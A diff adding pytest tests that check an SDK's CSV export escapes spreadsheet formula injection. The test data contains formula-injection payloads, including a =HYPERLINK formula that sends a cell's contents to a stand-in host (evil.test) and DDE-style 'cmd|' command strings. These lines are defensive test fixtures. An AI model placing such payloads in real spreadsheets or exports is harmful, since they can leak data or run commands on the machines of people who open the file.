@@ -306,3 +306,34 @@ def test_an_entry_that_is_no_host_is_refused_with_its_name(entry, tmp_path):
             Settings(runs_dir=str(tmp_path), blocked_domains=[entry])
         with pytest.raises(ValueError, match="is not a domain"):
             Task(intent="x", start_url="https://a.example/", allowed_domains=[entry])
+
+
+# ------------------------------------------------------------------ 9: spreadsheet formulas
+
+
+@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
+                                   "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"])
+def test_a_value_a_spreadsheet_would_compute_is_written_as_text(value):
+    from owrl_sdk.batch import spreadsheet_safe
+
+    with attack("batches", f"batch.csv cell {value[:18]!r}", "a leading apostrophe"):
+        assert spreadsheet_safe(value) == "'" + value
+    for plain in ("-5", "+3.25", "-1e3", "hello", "a=b", "", "12"):
+        assert spreadsheet_safe(plain) == plain
+
+
+def test_batch_csv_escapes_inputs_and_outputs(tmp_path):
+    import csv
+
+    from owrl_sdk.batch import Batch
+    from owrl_sdk.documents import Flow
+
+    flow = Flow.model_validate({"task": "find {{input:q}}", "start_url": "about:blank",
+                                "inputs": {"q": {"type": "string"}}, "turns": [{"calls": [{"name": "done"}]}]})
+    batch = Batch(flow, [{"q": '=HYPERLINK("http://evil.test")'}, {"q": "-7"}], out=tmp_path / "b",
+                  settings=__import__("owrl_sdk.config", fromlist=["Settings"]).Settings(runs_dir=str(tmp_path)))
+    with attack("batches", "an input row's =HYPERLINK(...) written to batch.csv", "escaped in the CSV"):
+        batch.write_summary()
+        rows = list(csv.reader((tmp_path / "b" / "batch.csv").open(encoding="utf-8")))
+        cells = [r[rows[0].index("input:q")] for r in rows[1:]]
+        assert cells == ["'=HYPERLINK(\"http://evil.test\")", "-7"], cells
